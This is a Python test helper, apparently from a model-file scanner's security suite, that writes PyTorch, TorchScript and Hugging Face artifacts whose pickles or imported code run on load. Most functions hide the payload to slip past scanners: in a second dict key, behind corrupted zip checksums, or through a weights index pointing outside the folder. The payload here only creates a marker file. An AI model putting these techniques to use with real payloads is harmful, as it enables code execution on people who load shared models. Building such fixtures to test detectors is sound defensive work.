# SPDX-License-Identifier: Apache-2.0
"""Pickles that run code when they are loaded: ``attack(path, marker)`` writes the hostile file."""

from __future__ import annotations

import pickle
import shutil
import zipfile
from pathlib import Path

import torch
from security.attacks.marker import Payload, expression


def in_a_torch_zip(path: Path, marker: Path) -> None:
    torch.save({"weight": Payload(marker)}, path)


def in_the_legacy_format(path: Path, marker: Path) -> None:
    torch.save({"weight": Payload(marker)}, path, _use_new_zipfile_serialization=False)


def bare(path: Path, marker: Path) -> None:
    path.write_bytes(pickle.dumps(Payload(marker), protocol=2))


def with_the_first_byte_of_protocol_4(path: Path, marker: Path) -> None:
    path.write_bytes(pickle.dumps({"w": Payload(marker)}, protocol=4))


def as_a_class_that_is_built_with_state(path: Path, marker: Path) -> None:
    """A whole module: its class is imported and its state set, which is code of the user's environment."""
    module = torch.nn.Linear(3, 5)
    module.extra = Payload(marker)
    torch.save(module, path)


def behind_a_state_dict_that_is_honest(path: Path, marker: Path) -> None:
    """The weights are fine; the payload hides in a second key."""
    torch.save({"state_dict": {"w": torch.ones(3)}, "epoch": Payload(marker)}, path)


def in_an_archive_with_wrong_checksums(path: Path, marker: Path) -> None:
    """Scanners that read with zipfile stop at a bad CRC, where PyTorch reads on (CVE-2025-10156)."""
    torch.save({"weight": Payload(marker)}, path)
    content = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        crc = next(i.CRC for i in archive.infolist() if i.filename.endswith("data.pkl")).to_bytes(4, "little")
    for at in range(len(content) - 4):
        if content[at : at + 4] == crc:
            content[at] ^= 0xFF
    path.write_bytes(content)


def through_an_allowed_function(path: Path, marker: Path) -> None:
    """The protocol-0 text form, with the global split over two lines."""
    path.write_bytes(b"\x80\x02cbuiltins\neval\n(V" + expression(marker).encode() + b"\ntR.")


def in_a_torchscript_archive(path: Path, marker: Path) -> None:
    """TorchScript's own pickles, one of them replaced."""
    honest = path.with_suffix(".honest")
    torch.jit.save(torch.jit.trace(torch.nn.Linear(3, 5), torch.zeros(2, 3)), honest)
    with zipfile.ZipFile(honest) as source, zipfile.ZipFile(path, "w") as target:
        for name in source.namelist():
            hostile = pickle.dumps(Payload(marker), protocol=2)
            target.writestr(name, hostile if name.endswith("constants.pkl") else source.read(name))


def in_a_torch_package(path: Path, marker: Path) -> None:
    """A package whose module creates the marker on import."""
    with torch.package.PackageExporter(path) as package:
        package.save_source_string("evil", expression(marker))
        package.save_pickle("model", "model.pkl", {"a": 1})


def in_a_hugging_face_folder(path: Path, marker: Path) -> None:
    """Pickled weights beside a config, as models were shared before safetensors."""
    path.mkdir()
    (path / "config.json").write_text('{"model_type": "bert", "architectures": ["BertModel"]}')
    torch.save({"weight": Payload(marker)}, path / "pytorch_model.bin")


def as_code_in_a_hugging_face_folder(path: Path, marker: Path) -> None:
    """A model type of its own, whose Python file transformers would import under trust_remote_code."""
    path.mkdir()
    auto_map = '{"AutoConfig": "evil.Config", "AutoModel": "evil.Model"}'
    (path / "config.json").write_text(f'{{"model_type": "evil", "auto_map": {auto_map}}}')
    (path / "evil.py").write_text(expression(marker))
    (path / "model.safetensors").write_bytes((2).to_bytes(8, "little") + b"{}")


def by_an_index_that_points_outside_the_folder(path: Path, marker: Path) -> None:
    """Weights whose index points at a file outside the folder."""
    path.mkdir()
    (path / "config.json").write_text('{"model_type": "bert", "architectures": ["BertModel"]}')
    outside = path.parent / "outside.bin"
    torch.save({"weight": Payload(marker)}, outside)
    (path / "model.safetensors.index.json").write_text('{"weight_map": {"weight": "../outside.bin"}}')
    shutil.copy(outside, path / "a.safetensors")
